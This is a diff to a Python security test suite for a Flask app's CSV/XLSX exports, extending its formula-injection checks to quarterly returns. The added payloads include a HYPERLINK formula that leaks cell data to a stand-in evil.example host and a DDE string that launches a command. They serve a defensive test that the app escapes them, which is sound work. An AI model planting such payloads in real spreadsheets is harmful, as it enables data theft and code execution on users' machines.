@@ -18,9 +18,18 @@ from openpyxl import load_workbook
 
 from improvement_tracker.extensions import db
 from improvement_tracker.models import Action, Finding, Force, Pillar, User
-from improvement_tracker.services import clock, kept, plan_version, plans
+from improvement_tracker.services import clock, kept, plan_version, plans, return_reviews, returns
 from tests import factories, files
-from tests.security.conftest import OWN, browser, methods, rules
+from tests.security.conftest import (
+    OWN,
+    World,
+    browser,
+    latest_version,
+    make_reviewable,
+    methods,
+    quarterly_return,
+    rules,
+)
 
 # Figures as a service test sees them: links and markup are the page's business.
 PLAIN = kept.Presentation(url_for=lambda link: "/", table_markup=lambda table: "")
@@ -39,7 +48,15 @@ PAYLOADS = {
     "evidence_file": "=cmd.pdf",
     "evidence_description": "-cmd",
     "pillar": "=2*3",
+    # A quarterly return's words, and the reason for correcting it (the service trims leading spaces).
+    "return_reason": '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
+    "return_progress": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "return_risks": "-2+3",
+    "return_help": "+cmd",
+    "correction_reason": "=1+2",
 }
+RETURN_WORDS = {"reason": "return_reason", "progress": "return_progress", "risks": "return_risks",
+                "help_needed": "return_help"}
 
 # Every download of a list or table: (endpoint, URL parts). Dashboard tables are enumerated below.
 LISTS = [
@@ -48,11 +65,17 @@ LISTS = [
     ("plans.forces_export", {}),
     ("evidence.awaiting_review_export", {"code": OWN}),
     ("notifications.ledger_export", {"code": OWN}),
+    ("returns.national_export", {}),
 ]
+# Who downloads each list (the force's programme manager unless said).
+DOWNLOADER = {"plans.my_actions_export": "action_owner", "plans.forces_export": "admin",
+              "returns.national_export": "admin"}
+# A submitted return as a workbook (XLSX only): the words and figures of the version, as frozen.
+RETURN_DOWNLOAD = "return_reviews.download"
 DASHBOARDS = {
     "dashboards.national_export": ("/dashboards/national/export/{table}.{fmt}",
                                    ["headline", "completion", "rag-by-pillar", "most-overdue", "trend",
-                                    "rag-disagreements"]),
+                                    "rag-disagreements", "latest-assessments"]),
     "dashboards.pillar_export": ("/dashboards/pillars/P1/export/{table}.{fmt}", ["ranking"]),
     "dashboards.force_export": (f"/forces/{OWN}/dashboard/export/{{table}}.{{fmt}}",
                                 ["headline", "status-by-pillar", "milestone-burn-up", "overdue-actions",
@@ -70,7 +93,7 @@ NO_TYPED_TEXT_FIRST = {"headline", "trend", "milestone-burn-up", "rag-by-pillar"
 def test_every_download_route_is_covered(app):
     """A new CSV or XLSX route fails here until it is added above."""
     downloads = {r.endpoint for r in rules(app) if "fmt" in r.arguments or r.rule.endswith((".csv", ".xlsx"))}
-    covered = {e for e, _ in LISTS} | set(DASHBOARDS) | set(TEMPLATES)
+    covered = {e for e, _ in LISTS} | set(DASHBOARDS) | set(TEMPLATES) | {RETURN_DOWNLOAD}
     assert downloads == covered
     assert all("GET" in methods(next(app.url_map.iter_rules(e))) for e in covered)
 
@@ -107,7 +130,22 @@ def planted(app, world):
     db.session.commit()
     factories.create_evidence(action, owner, files.pdf("Register"), PAYLOADS["evidence_file"],
                               description=PAYLOADS["evidence_description"])
+    # The force's return: version 1 reviewed (so the force is in the latest assessments), then
+    # corrected: version 2 carries the payloads in P1's words and the reason.
+    make_reviewable(world, world.own)
+    return_reviews.mark_reviewed(db.session, quarterly_return(world.own), latest_version(world.own), world.oversight)
+    db.session.commit()
+    corrected = quarterly_return(world.own)
+    returns.start_correction(db.session, corrected, world.own.pm)
+    returns.save_section(db.session, corrected, factories.pillar("P1"), returns.SectionFields(
+        assessment="at_risk", **{name: PAYLOADS[payload] for name, payload in RETURN_WORDS.items()}), world.own.pm)
+    db.session.commit()
+    factories.submit_return(world.own.pm, corrected, today=clock.today(), reason=PAYLOADS["correction_reason"])
     return world
+
+
+def _return_workbook(world: World) -> str:
+    return f"/forces/{OWN}/returns/{world.own.period}/versions/2/return.xlsx"
 
 
 def _cells(response, fmt: str) -> list:
@@ -140,28 +178,28 @@ def _runnable(cells: list) -> list:
     return bad
 
 
-def _downloads(app) -> list[tuple[str, str, bool]]:
+def _downloads(app, world: World) -> list[tuple[str, str, bool]]:
     """(who downloads, URL, whether a payload must be in it) for every table of every export."""
     with app.test_request_context():
         from flask import url_for
 
         urls = []
         for endpoint, parts in LISTS:
-            who = "action_owner" if endpoint == "plans.my_actions_export" else \
-                "admin" if endpoint == "plans.forces_export" else "programme_manager"
+            who = DOWNLOADER.get(endpoint, "programme_manager")
             for fmt in ("csv", "xlsx"):
                 urls.append((who, url_for(endpoint, fmt=fmt, **parts), True))
     for pattern, tables in DASHBOARDS.values():
         for table in tables:
             for fmt in ("csv", "xlsx"):
                 urls.append(("admin", pattern.format(table=table, fmt=fmt), table not in NO_TYPED_TEXT_FIRST))
+    urls.append(("programme_manager", _return_workbook(world), True))
     return urls
 
 
 def test_every_export_neutralises_formulas(app, planted):
     people = {role: browser(app, planted.user(role)) for role in ("admin", "programme_manager", "action_owner")}
     wrong, checked = [], 0
-    for who, url, expect_payload in _downloads(app):
+    for who, url, expect_payload in _downloads(app, planted):
         cells = _cells(people[who].client.get(url), url.rsplit(".", 1)[1])
         checked += 1
         if _runnable(cells):
@@ -170,7 +208,7 @@ def test_every_export_neutralises_formulas(app, planted):
         if expect_payload and not neutralised:
             wrong.append(f"{url}: no payload reached this download, so it proves nothing")
     assert wrong == [], "\n".join(wrong)
-    assert checked == 2 * (len(LISTS) + sum(len(t) for _, t in DASHBOARDS.values()))
+    assert checked == 2 * (len(LISTS) + sum(len(t) for _, t in DASHBOARDS.values())) + 1
 
 
 def test_each_payload_comes_out_as_the_same_text_behind_an_apostrophe(app, planted):
@@ -182,6 +220,15 @@ def test_each_payload_comes_out_as_the_same_text_behind_an_apostrophe(app, plant
         for name in ("owner", "owner_email", "action_title", "action_reference", "finding_reference",
                      "evidence_file", "evidence_description"):
             assert "'" + PAYLOADS[name] in cells, f"{name} in the {fmt} export"
+
+
+def test_a_returns_words_come_out_of_its_workbook_as_the_same_text_behind_an_apostrophe(app, planted):
+    """The return's narratives, the reason for its correction and the force's name, as frozen in the version."""
+    cells = set(_cells(browser(app, planted.own.pm).client.get(_return_workbook(planted)), "xlsx"))
+    for name in (*RETURN_WORDS.values(), "correction_reason", "force"):
+        assert "'" + PAYLOADS[name] in cells, f"{name} in the return's workbook"
+    national = set(_cells(browser(app, planted.admin).client.get("/returns.xlsx"), "xlsx"))
+    assert "'" + PAYLOADS["force"] in national, "the force's name in the national returns grid"
 
 
 def test_import_templates_hold_no_formulas(app, planted):
